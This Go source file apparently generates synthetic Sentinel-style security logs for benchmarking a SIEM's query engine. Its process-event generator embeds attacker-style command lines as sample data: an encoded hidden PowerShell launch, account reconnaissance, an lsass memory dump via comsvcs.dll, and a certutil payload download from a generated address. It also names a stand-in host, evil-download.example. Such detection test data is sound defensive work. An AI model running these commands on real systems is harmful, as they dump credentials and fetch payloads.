package main

import (
	"context"
	"fmt"
	"maps"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/vedette-siem/vedette/internal/catalog"
	dialect "github.com/vedette-siem/vedette/internal/dialect/duckdb"
	"github.com/vedette-siem/vedette/internal/store/duckdb"
	"github.com/vedette-siem/vedette/internal/types"
)

// The events lie evenly in the days before end, whatever their number, so cases can name points in time.
var end = time.Date(2026, 3, 9, 0, 0, 0, 0, time.UTC)

const span = 7 * 24 * time.Hour

// generated is a table to fill: columns maps names to SQL over the row number i; other columns stay empty
// ("" for strings, as storage holds them).
type generated struct {
	table string
	rows  int64
	// base are values that several columns are made of, computed once for each row.
	base    []string
	columns map[string]string
}

// fill creates the tables and fills them inside the engine.
func fill(ctx context.Context, eng *duckdb.Engine, cat *catalog.Catalog, rows int64) error {
	for _, m := range macros {
		if err := eng.Exec(ctx, "CREATE MACRO "+m); err != nil {
			return err
		}
	}
	// A stored list of row numbers is read in parallel, as range() is not.
	if err := eng.Exec(ctx, fmt.Sprintf("CREATE TABLE bench_rows AS SELECT range AS i FROM range(%d)", max(rows, 20000))); err != nil {
		return err
	}
	for _, g := range tables(rows) {
		t, ok := cat.Table(g.table)
		if !ok {
			return fmt.Errorf("generate %s: the catalogue lacks it", g.table)
		}
		if err := eng.Create(t); err != nil {
			return err
		}
		sql, err := g.insert(t)
		if err != nil {
			return err
		}
		if err := eng.Exec(ctx, sql); err != nil {
			return fmt.Errorf("generate %s: %w", g.table, err)
		}
	}
	if err := eng.Exec(ctx, "DROP TABLE bench_rows"); err != nil {
		return err
	}
	return eng.Exec(ctx, "CHECKPOINT")
}

func (g generated) insert(t *catalog.Table) (string, error) {
	left := maps.Clone(g.columns)
	var items []string
	for _, c := range t.Columns {
		sql, ok := left[c.Name]
		delete(left, c.Name)
		switch {
		case ok:
		case c.Name == "Type":
			sql = dialect.Text(t.Name)
		case c.Name == "TimeGenerated":
			sql = fmt.Sprintf("%d + (%d::HUGEINT * i // %d)::BIGINT", types.TicksOf(end.Add(-span)), span/100, g.rows)
		case c.Type == types.String:
			sql = "''"
		default:
			sql = "NULL"
		}
		items = append(items, "("+sql+")::"+dialect.SQLType(c.Type))
	}
	if len(left) > 0 {
		return "", fmt.Errorf("generate %s: it has no column %s", t.Name, strings.Join(slices.Sorted(maps.Keys(left)), ", "))
	}
	base := strings.Join(append([]string{"i"}, g.base...), ", ")
	return "INSERT INTO " + dialect.Ident(t.Name) + " SELECT " + strings.Join(items, ", ") +
		" FROM (SELECT " + base + " FROM bench_rows WHERE i < " + strconv.FormatInt(g.rows, 10) + ")", nil
}

// macros are the generator's vocabulary. Everything is a function of the row number and a salt: the same
// data every time.
var macros = []string{
	// dice gives 0 … n-1, evenly.
	"bench_dice(i, salt, n) AS (hash(i * 1000 + salt) % n::UBIGINT)::BIGINT",
	// skew gives 0 … n-1, small numbers far more often: few users and addresses make most of the noise.
	"bench_skew(i, salt, n) AS floor(pow(bench_dice(i, salt, 1000003) / 1000003.0, 2.5) * n)::BIGINT",
	"bench_pick(i, salt, list) AS list[bench_dice(i, salt, len(list)) + 1]",
	"bench_guid(i, salt) AS lower(lpad(hex(hash(i * 1000 + salt) % 4294967296), 8, '0') || '-0a1b-4c2d-8e3f-' || lpad(hex(hash(i * 1000 + salt + 1) % 281474976710656), 12, '0'))",
	"bench_first(u) AS ['Alice','Bob','Carol','Dave','Erin','Frank','Grace','Heidi','Ivan','Judy','Mallory','Niaj','Olivia','Peggy','Rupert','Sybil'][u % 16 + 1]",
	"bench_last(u) AS ['Garcia','Ivanov','Jensen','Kim','Lopez','Meyer','Nguyen','Okafor','Petrov','Rossi','Silva','Tanaka','Weber'][u % 13 + 1]",
	// Sign-in logs write the same user's name in more than one case.
	"bench_user(u) AS lower(bench_first(u) || '.' || bench_last(u)) || u || '@' || ['contoso.com','fabrikam.com','contoso.onmicrosoft.com'][u % 3 + 1]",
	"bench_upn(i, u) AS CASE WHEN bench_dice(i, 901, 4) = 0 THEN bench_first(u) || '.' || bench_last(u) || substr(bench_user(u), length(bench_first(u) || '.' || bench_last(u)) + 1) ELSE bench_user(u) END",
	"bench_ip(k) AS CASE WHEN k % 5 = 0 THEN '10.' || (k // 250 % 250) || '.' || (k % 250) || '.' || (k * 7 % 250) WHEN k % 29 = 0 THEN '192.168.' || (k % 250) || '.' || (k * 3 % 250) WHEN k % 97 = 0 THEN '2001:db8:' || hex(k % 65536) || '::1' ELSE (k % 180 + 20) || '.' || (k * 13 % 256) || '.' || (k * 31 % 256) || '.' || (k * 7 % 256) END",
	"bench_host(d) AS ['ws','srv','lap','dc'][d % 4 + 1] || '-' || lpad(d::VARCHAR, 5, '0') || '.corp.contoso.com'",
}

const (
	userCount = 5000
	user      = "bench_skew(i, 2, 5000) AS person"
	address   = "bench_skew(i, 3, 40000) AS address"
	actor     = "bench_skew(i, 108, 300) AS actor"
	target    = "bench_skew(i, 110, 5000) AS target"
	host      = "bench_skew(i, 201, 2000) AS host"
	outcome   = "bench_dice(i, 1, 1000) AS outcome"  // in thousandths
	program   = "bench_dice(i, 203, 200) AS program" // in two hundredths
)

func tables(rows int64) []generated {
	return []generated{
		{"SigninLogs", rows, []string{user, address, outcome}, signins},
		{"AuditLogs", rows, []string{actor, target}, audits},
		{"DeviceProcessEvents", rows, []string{user, host, program}, processes},
		{"CommonSecurityLog", rows, []string{user}, network},
		{"IdentityInfo", 3 * userCount, nil, identities},
		{"BehaviorAnalytics", 20000, nil, behavior},
	}
}

var signins = map[string]string{
	"TenantId": "'5a4c9d1e-0000-4000-8000-000000000001'", "AADTenantId": "'5a4c9d1e-0000-4000-8000-000000000002'",
	"SourceSystem": "'Azure AD'", "OperationName": "'Sign-in activity'", "OperationVersion": "'1.0'", "Category": "'SignInLogs'", "Level": "'4'",
	"ResultType":                   "CASE WHEN outcome < 850 THEN '0' WHEN outcome < 910 THEN '50126' WHEN outcome < 920 THEN '500121' WHEN outcome < 950 THEN '50074' WHEN outcome < 970 THEN '50053' WHEN outcome < 990 THEN '53003' ELSE '50057' END",
	"ResultDescription":            "CASE WHEN outcome < 850 THEN '' WHEN outcome < 910 THEN 'Invalid username or password or Invalid on-premise username or password.' WHEN outcome < 920 THEN 'Authentication failed during strong authentication request.' ELSE 'Access has been blocked by Conditional Access policies.' END",
	"UserPrincipalName":            "bench_upn(i, person)",
	"UserDisplayName":              "bench_first(person) || ' ' || bench_last(person)",
	"Identity":                     "bench_first(person) || ' ' || bench_last(person)",
	"UserId":                       "bench_guid(person, 4)",
	"UserType":                     "CASE WHEN person % 9 = 0 THEN 'Guest' ELSE 'Member' END",
	"IPAddress":                    "bench_ip(address)",
	"Location":                     "['US','DE','FR','GB','IN','BR','JP','NG'][address % 8 + 1]",
	"LocationDetails":              `'{"city":"' || ['Seattle','Berlin','Paris','London','Pune','Recife','Osaka','Lagos'][address % 8 + 1] || '","state":"S' || (address % 40) || '","countryOrRegion":"' || ['US','DE','FR','GB','IN','BR','JP','NG'][address % 8 + 1] || '","geoCoordinates":{"latitude":' || (address % 80) || '.25,"longitude":' || (address % 170) || '.5}}'`,
	"AppDisplayName":               "bench_pick(i, 5, ['Office 365 Exchange Online','Microsoft Teams','Azure Portal','SharePoint Online','Microsoft Azure CLI','Salesforce','ServiceNow','Windows Sign In','GitHub Enterprise','VPN'])",
	"ClientAppUsed":                "bench_pick(i, 6, ['Browser','Mobile Apps and Desktop clients','Exchange ActiveSync','IMAP4','Authenticated SMTP','Browser','Browser'])",
	"UserAgent":                    "'Mozilla/5.0 (' || bench_pick(i, 7, ['Windows NT 10.0; Win64; x64','Macintosh; Intel Mac OS X 10_15_7','X11; Linux x86_64','iPhone; CPU iPhone OS 17_2 like Mac OS X']) || ') AppleWebKit/537.36 (KHTML, like Gecko) Chrome/' || (100 + bench_dice(i, 8, 40)) || '.0.0.0 Safari/537.36'",
	"Status":                       `CASE WHEN outcome < 850 THEN '{"errorCode":0,"additionalDetails":"MFA requirement satisfied by claim in the token"}' WHEN outcome < 910 THEN '{"errorCode":50126,"failureReason":"Invalid username or password or Invalid on-premise username or password."}' WHEN outcome < 920 THEN '{"errorCode":500121,"failureReason":"Authentication failed during strong authentication request.","additionalDetails":"' || bench_pick(i, 9, ['MFA denied; user declined the authentication','MFA denied; user did not respond to mobile app notification','MFA denied; fraud code entered','MFA denied; invalid verification code','MFA Denied; User Declined the authentication']) || '"}' ELSE '{"errorCode":53003,"failureReason":"Access has been blocked by Conditional Access policies.","additionalDetails":"The access policy does not allow token issuance."}' END`,
	"DeviceDetail":                 `'{"deviceId":"' || CASE WHEN bench_dice(i, 10, 3) = 0 THEN '' ELSE bench_guid(person * 3 + bench_dice(i, 11, 3), 12) END || '","displayName":"' || bench_host(person % 2000) || '","operatingSystem":"' || bench_pick(i, 7, ['Windows10','MacOs','Linux','Ios']) || '","browser":"Chrome ' || (100 + bench_dice(i, 8, 40)) || '.0.0","isCompliant":' || (bench_dice(i, 13, 2) = 0) || ',"isManaged":' || (bench_dice(i, 14, 3) = 0) || ',"trustType":"' || bench_pick(i, 15, ['','Azure AD joined','Hybrid Azure AD joined']) || '"}'`,
	"ConditionalAccessPolicies":    `'[{"id":"' || bench_guid(bench_dice(i, 16, 12), 17) || '","displayName":"Require MFA for ' || bench_pick(i, 16, ['all users','admins','guests']) || '","result":"' || bench_pick(i, 18, ['success','failure','notApplied','reportOnlySuccess']) || '"},{"id":"' || bench_guid(bench_dice(i, 19, 12), 17) || '","displayName":"Block legacy authentication","result":"' || bench_pick(i, 20, ['notApplied','notEnabled','failure']) || '"}]'`,
	"ConditionalAccessStatus":      "bench_pick(i, 21, ['success','failure','notApplied'])",
	"AuthenticationRequirement":    "bench_pick(i, 22, ['singleFactorAuthentication','multiFactorAuthentication'])",
	"RiskLevelDuringSignIn":        "bench_pick(i, 23, ['none','none','none','none','none','low','medium','high'])",
	"RiskState":                    "bench_pick(i, 24, ['none','none','none','atRisk','remediated'])",
	"IsInteractive":                "bench_dice(i, 25, 3) > 0",
	"AutonomousSystemNumber":       "(address % 900 + 1000)::VARCHAR",
	"CorrelationId":                "bench_guid(i, 26)",
	"Id":                           "bench_guid(i, 28)",
	"DurationMs":                   "bench_dice(i, 30, 4000)",
	"ProcessingTimeInMilliseconds": "bench_dice(i, 30, 4000)::VARCHAR",
}

var audits = map[string]string{
	"TenantId": "'5a4c9d1e-0000-4000-8000-000000000001'", "AADTenantId": "'5a4c9d1e-0000-4000-8000-000000000002'", "SourceSystem": "'Azure AD'",
	"OperationName":       "bench_pick(i, 101, ['Add member to role','Update user','Add user','Delete user','Consent to application','Add service principal','Reset password (by admin)','Update application','Add member to group','Disable account','Update StsRefreshTokenValidFrom Timestamp','Add eligible member to role'])",
	"ActivityDisplayName": "bench_pick(i, 101, ['Add member to role','Update user','Add user','Delete user','Consent to application','Add service principal','Reset password (by admin)','Update application','Add member to group','Disable account','Update StsRefreshTokenValidFrom Timestamp','Add eligible member to role'])",
	"Category":            "bench_pick(i, 101, ['RoleManagement','UserManagement','UserManagement','UserManagement','ApplicationManagement','ApplicationManagement','UserManagement','ApplicationManagement','GroupManagement','UserManagement','UserManagement','RoleManagement'])",
	"Result":              "CASE WHEN bench_dice(i, 102, 50) = 0 THEN 'failure' ELSE 'success' END",
	"LoggedByService":     "bench_pick(i, 103, ['Core Directory','Core Directory','PIM','Self-service Password Management'])",
	"CorrelationId":       "bench_guid(i, 104)",
	"InitiatedBy":         `CASE WHEN bench_dice(i, 105, 5) = 0 THEN '{"app":{"displayName":"' || bench_pick(i, 106, ['Microsoft Graph','Azure AD Connect','HR Sync']) || '","servicePrincipalId":"' || bench_guid(bench_dice(i, 106, 40), 107) || '"}}' ELSE '{"user":{"id":"' || bench_guid(actor, 4) || '","userPrincipalName":"' || bench_user(actor) || '","ipAddress":"' || bench_ip(bench_skew(i, 109, 40000)) || '"}}' END`,
	"TargetResources":     `'[{"id":"' || bench_guid(target, 4) || '","displayName":"' || bench_first(target) || '","type":"User","userPrincipalName":"' || bench_user(target) || '","modifiedProperties":[{"displayName":"Role.DisplayName","oldValue":null,"newValue":"\"' || bench_pick(i, 111, ['Global Administrator','User Administrator','Security Reader','Helpdesk Administrator']) || '\""},{"displayName":"AccountEnabled","oldValue":"[true]","newValue":"[false]"}]},{"id":"' || bench_guid(bench_dice(i, 112, 60), 113) || '","displayName":"' || bench_pick(i, 114, ['Finance','Engineering','Sales','Admins']) || '","type":"Group"}]'`,
	"AdditionalDetails":   `'[{"key":"User-Agent","value":"' || bench_pick(i, 115, ['Mozilla/5.0','EvoSTS','PowerShell/7.4']) || '"}]'`,
	"Identity":            "bench_first(actor)",
}

var commandLine = `CASE WHEN program = 0 THEN 'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ' || substr(base64(encode(bench_guid(i, 204) || bench_guid(i, 205))), 1, 60)
	WHEN program = 1 THEN 'cmd.exe /c whoami /all & net user ' || bench_first(i % 16) || ' /domain'
	WHEN program = 2 THEN 'rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump ' || bench_dice(i, 206, 9000) || ' C:\Temp\lsass.dmp full'
	WHEN program = 3 THEN 'certutil.exe -urlcache -split -f http://' || bench_ip(bench_dice(i, 207, 40000)) || '/payload' || bench_dice(i, 208, 50) || '.exe C:\Users\Public\p.exe'
	WHEN program < 60 THEN '"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=' || bench_dice(i, 209, 8) || ' --renderer-client-id=' || bench_dice(i, 210, 100000) || ' --launch-time-ticks=' || bench_dice(i, 211, 1000000000)
	WHEN program < 120 THEN 'svchost.exe -k ' || bench_pick(i, 212, ['netsvcs','LocalService','NetworkService','UnistackSvcGroup']) || ' -p -s ' || bench_pick(i, 213, ['Schedule','Winmgmt','BITS','wuauserv','gpsvc','Themes'])
	WHEN program < 160 THEN '/usr/bin/python3 /opt/agent/collect.py --interval ' || bench_dice(i, 214, 600) || ' --output /var/log/agent/' || bench_guid(i, 215) || '.json'
	ELSE '"MsMpEng.exe" scan -id ' || bench_guid(i, 216) || ' -path C:\Users\' || bench_first(i % 16) || '\AppData\Local\Temp\' || bench_dice(i, 217, 100000) END`

var processes = map[string]string{
	"TenantId": "'5a4c9d1e-0000-4000-8000-000000000001'", "ActionType": "'ProcessCreated'",
	"DeviceName": "bench_host(host)", "DeviceId": "bench_guid(host, 202)",
	"AccountName":                  "lower(bench_first(person) || '.' || bench_last(person)) || person",
	"AccountDomain":                "bench_pick(i, 218, ['contoso','CONTOSO','nt authority'])",
	"FileName":                     "CASE WHEN program = 0 THEN 'powershell.exe' WHEN program = 1 THEN 'cmd.exe' WHEN program = 2 THEN 'rundll32.exe' WHEN program = 3 THEN 'certutil.exe' WHEN program < 60 THEN 'chrome.exe' WHEN program < 120 THEN 'svchost.exe' WHEN program < 160 THEN 'python3' ELSE 'MsMpEng.exe' END",
	"FolderPath":                   `CASE WHEN program < 120 THEN 'C:\Windows\System32\' ELSE '/usr/bin/' END`,
	"ProcessCommandLine":           commandLine,
	"ProcessId":                    "bench_dice(i, 219, 65536)",
	"SHA256":                       "sha256('file' || bench_skew(i, 220, 20000))",
	"SHA1":                         "sha1('file' || bench_skew(i, 220, 20000))",
	"MD5":                          "md5('file' || bench_skew(i, 220, 20000))",
	"FileSize":                     "bench_dice(i, 221, 50000000)",
	"InitiatingProcessFileName":    "bench_pick(i, 222, ['explorer.exe','services.exe','svchost.exe','winword.exe','outlook.exe','bash','systemd','cmd.exe'])",
	"InitiatingProcessCommandLine": "bench_pick(i, 222, ['explorer.exe','services.exe','svchost.exe -k netsvcs','\"WINWORD.EXE\" /n','\"OUTLOOK.EXE\"','-bash','/sbin/init','cmd.exe /c start'])",
	"InitiatingProcessId":          "bench_dice(i, 223, 65536)",
	"ProcessIntegrityLevel":        "bench_pick(i, 224, ['Medium','High','System','Low'])",
	"ReportId":                     "i",
}

var network = map[string]string{
	"TenantId": "'5a4c9d1e-0000-4000-8000-000000000001'", "DeviceVendor": "bench_pick(i, 301, ['Palo Alto Networks','Fortinet','Check Point'])",
	"DeviceProduct":        "bench_pick(i, 301, ['PAN-OS','Fortigate','VPN-1'])",
	"DeviceAction":         "bench_pick(i, 302, ['allow','allow','allow','allow','deny','drop','reset-both'])",
	"Activity":             "bench_pick(i, 303, ['TRAFFIC','THREAT','TRAFFIC','URL'])",
	"SourceIP":             "bench_ip(bench_skew(i, 304, 3000) * 5)",
	"DestinationIP":        "bench_ip(bench_skew(i, 305, 40000))",
	"SourcePort":           "1024 + bench_dice(i, 306, 64000)",
	"DestinationPort":      "bench_pick(i, 307, [443,443,443,80,53,22,3389,445,8080,25])",
	"Protocol":             "bench_pick(i, 308, ['TCP','TCP','UDP'])",
	"SentBytes":            "CASE WHEN bench_dice(i, 309, 20) > 0 THEN bench_skew(i, 310, 2000000) END",
	"ReceivedBytes":        "CASE WHEN bench_dice(i, 309, 20) > 0 THEN bench_skew(i, 311, 9000000) END",
	"RequestURL":           "CASE WHEN bench_dice(i, 303, 4) = 3 THEN 'https://' || bench_pick(i, 312, ['www.contoso.com','login.microsoftonline.com','cdn.example.net','files.example.org','evil-download.example']) || '/' || bench_pick(i, 313, ['index.html','api/v1/items','download/tool.exe','login.php']) || '?id=' || bench_dice(i, 314, 100000) ELSE '' END",
	"SourceUserName":       "CASE WHEN bench_dice(i, 315, 3) = 0 THEN '' ELSE bench_user(person) END",
	"DestinationHostName":  "bench_pick(i, 312, ['www.contoso.com','login.microsoftonline.com','cdn.example.net','files.example.org','evil-download.example'])",
	"Message":              "'session=' || bench_dice(i, 316, 1000000) || ' rule=' || bench_pick(i, 317, ['allow-web','allow-dns','block-smb','default']) || ' zone=trust->' || bench_pick(i, 318, ['untrust','dmz']) || ' bytes=' || bench_dice(i, 319, 90000)",
	"AdditionalExtensions": "'cat=traffic;rt=' || bench_dice(i, 320, 100000) || ';flexString1=' || bench_pick(i, 317, ['allow-web','allow-dns','block-smb','default'])",
	"LogSeverity":          "bench_dice(i, 321, 10)::VARCHAR",
	"Computer":             "'fw' || bench_dice(i, 322, 12)",
	"DeviceVersion":        "'10.1'",
}

// Every user has three reports.
var identities = map[string]string{
	"AccountUPN": "bench_user(i % 5000)", "AccountObjectId": "bench_guid(i % 5000, 4)", "AccountName": "lower(bench_first(i % 5000) || '.' || bench_last(i % 5000)) || (i % 5000)",
	"AccountDisplayName": "bench_first(i % 5000) || ' ' || bench_last(i % 5000)", "JobTitle": "bench_pick(i % 5000, 401, ['Engineer','Analyst','Manager','Director'])",
	"Department": "bench_pick(i % 5000, 402, ['Finance','Engineering','Sales','HR'])", "Tags": "CASE WHEN i % 50 = 0 THEN 'VIP' ELSE '' END",
	"GroupMembership":  `'["' || bench_pick(i, 403, ['All Employees','Contractors']) || '","' || bench_pick(i, 404, ['Finance','Engineering','Sales','Admins']) || '"]'`,
	"AssignedRoles":    `CASE WHEN i % 40 = 0 THEN '["Global Administrator","Security Reader"]' ELSE '[]' END`,
	"UserType":         "CASE WHEN i % 9 = 0 THEN 'Guest' ELSE 'Member' END",
	"IsAccountEnabled": "i % 20 > 0", "IsMFARegistered": "i % 7 > 0",
}

var behavior = map[string]string{
	"ActivityType": "bench_pick(i, 501, ['LogOn','FailedLogOn','LogOn','ResourceAccess','ElevateAccess'])", "ActionType": "'Sign-in'",
	"UserPrincipalName": "bench_user(bench_skew(i, 502, 5000))", "UserName": "lower(bench_first(bench_skew(i, 502, 5000)))",
	"SourceIPAddress":       "CASE WHEN i % 10 = 0 THEN '' ELSE bench_ip(bench_skew(i, 503, 40000)) END",
	"InvestigationPriority": "bench_skew(i, 504, 11)::INTEGER",
	"UsersInsights":         `'{"AccountDisplayName":"' || bench_first(bench_skew(i, 502, 5000)) || '","BlastRadius":"' || bench_pick(i, 505, ['Low','Medium','High']) || '","IsDormantAccount":' || (i % 17 = 0) || '}'`,
	"DevicesInsights":       `'{"Browser":"Chrome ' || (100 + bench_dice(i, 506, 40)) || '","OperatingSystem":"Windows 10"}'`,
	"ActivityInsights":      `'{"FirstTimeUserConnectedFromCountry":' || (i % 13 = 0) || ',"CountryUncommonlyConnectedFromAmongPeers":' || (i % 7 = 0) || '}'`,
}
